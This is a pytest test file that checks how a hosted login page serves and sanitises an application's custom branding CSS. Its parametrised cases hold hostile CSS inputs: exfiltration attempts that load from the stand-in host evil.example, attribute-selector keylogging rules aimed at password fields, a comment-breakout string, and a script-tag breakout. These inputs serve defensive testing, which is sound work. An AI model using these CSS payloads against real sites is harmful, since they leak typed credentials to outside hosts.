"""The style sheet of an application at the hosted pages: at an address of this server, and harmless. On both
engines."""

import json
import re

import pytest
import requests
from hosted import CALLBACK, Visitor
from scenes import assert_ok


def brand(server, css, **more):
    return server.with_settings(app={"redirect_uris": [CALLBACK],
                                     "branding": {"css_enabled": True, "css": css, **more}})


def page_of(server):
    visitor = Visitor(server)
    visitor.authorize()
    return visitor.browser.get(f"/{server.app_id}/login/{visitor.id}", unchecked=True)


def address_in(page):
    found = re.search(r'<link rel="stylesheet" href="(/[0-9a-f]{24}/branding/[^"]+)">', page.text)
    return found and found[1]


def sheet(server, css, **more):
    with brand(server, css, **more):
        address = address_in(page_of(server))
        return address and requests.get(server.base + address, timeout=30)


def test_the_page_loads_the_sheet_from_this_server_and_nothing_else(server):
    answer = sheet(server, ".card { border-radius: 0 }")
    assert answer.status_code == 200 and answer.text == ".card{border-radius:0}\n"
    assert answer.headers["content-type"] == "text/css; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff" and "immutable" in answer.headers["cache-control"]
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"


def test_the_policy_of_the_page_stays_as_strict(server):
    with brand(server, ".card { color: red }"):
        policy = page_of(server).headers["content-security-policy"]
        assert "style-src 'self'" in policy and "unsafe" not in policy


def test_a_changed_sheet_has_another_address_and_the_old_one_is_gone(server):
    with brand(server, ".card { color: red }"):
        first = address_in(page_of(server))
    with brand(server, ".card { color: blue }"):
        second = address_in(page_of(server))
        assert first != second
        assert requests.get(server.base + first, timeout=30).status_code == 404
        assert requests.get(server.base + second, timeout=30).status_code == 200
    assert requests.get(server.base + second, timeout=30).status_code == 404


@pytest.mark.parametrize("css", [
    "@import url(https://evil.example/x.css);", "@\\69mport 'https://evil.example';",
    ".card{background:url(https://evil.example/x)}", ".card{background:u\\72l(//evil.example)}",
    ".card{background:image-set('https://evil.example' 1x)}", "@font-face{font-family:a;src:url(//evil.example)}"],
    ids=range(6))
def test_data_exfiltration_no_sheet_asks_another_server(server, css):
    answer = sheet(server, css + " p{margin:0}")
    rules = re.sub(r"/\*.*?\*/", "", answer.text, flags=re.S)
    assert "evil" not in rules and "p{margin:0}" in rules


@pytest.mark.parametrize("css", ["input[value^=a]{color:red}", "input[type=password][value$='9']{--a:1}",
                                 ".card:has([value*=x]){color:red}", "@supports selector(a[b]){p{color:red}}"])
def test_keylogging_no_sheet_looks_at_what_is_typed(server, css):
    answer = sheet(server, css + " p{margin:0}")
    assert "[" not in re.sub(r"/\*.*?\*/", "", answer.text, flags=re.S)


def test_what_was_left_out_is_said_in_a_comment_that_cannot_be_left(server):
    answer = sheet(server, "@import '*/p{color:red}/*'; p{margin:0}")
    assert answer.text.count("*/") == 1 and answer.text.startswith("/* Left out:")
    assert re.sub(r"/\*.*?\*/", "", answer.text, flags=re.S).strip() == "p{margin:0}"


def test_html_in_a_sheet_is_never_a_page(server):
    answer = sheet(server, "p{content:'</style><script>alert(1)</script>'}")
    assert "<script>" not in answer.text and "</style>" not in answer.text


def test_no_sheet_where_it_is_off_broken_empty_or_of_a_stranger(server):
    assert sheet(server, ".card{color:red}", css_enabled=False) is None
    assert sheet(server, "@import 'x';") is None
    assert sheet(server, "a{b:" + "(" * 40 + "}") is None
    with server.with_settings(app={"redirect_uris": [CALLBACK], "origin": "registration",
                                   "branding": {"css_enabled": True, "css": ".card{color:red}"}}):
        assert address_in(page_of(server)) is None


def test_a_sheet_of_one_application_is_at_no_other_applications_address(server):
    other = server.other_application()["appId"]
    with brand(server, ".card{color:red}"):
        address = address_in(page_of(server))
        assert requests.get(server.base + address.replace(server.app_id, other), timeout=30).status_code == 404
        assert requests.get(server.base + address[25:], timeout=30).status_code == 404
        assert requests.post(server.base + address, timeout=30).status_code == 404


def test_a_sheet_that_cannot_be_read_is_refused_when_it_is_set(server):
    answer = server.manage("POST", "update-application", {"appId": server.app_id, "brandingConfig": {
        "customCSSEnabled": True, "customCSS": "a{b:" + "(" * 40 + "}"}})
    assert answer["statusCode"] == 400, json.dumps(answer)
    assert_ok(server.manage("POST", "update-application", {"appId": server.app_id, "brandingConfig": {
        "customCSSEnabled": False, "customCSS": ""}}))


def test_the_order_of_tabs_is_that_of_the_methods(server):
    for methods, first in ((["EMAIL_CODE", "USERNAME_PASSWORD"], "EMAIL_CODE"),
                           (["USERNAME_PASSWORD", "EMAIL_CODE"], "PASSWORD"),
                           (["SELF_BUILT_APP_QRCODE", "PHONE_CODE"], "QRCODE")):
        with server.with_settings(app={"redirect_uris": [CALLBACK], "enabled_methods": methods}):
            visitor = Visitor(server)
            visitor.authorize()
            assert assert_ok(visitor.state())["methods"][0] == first
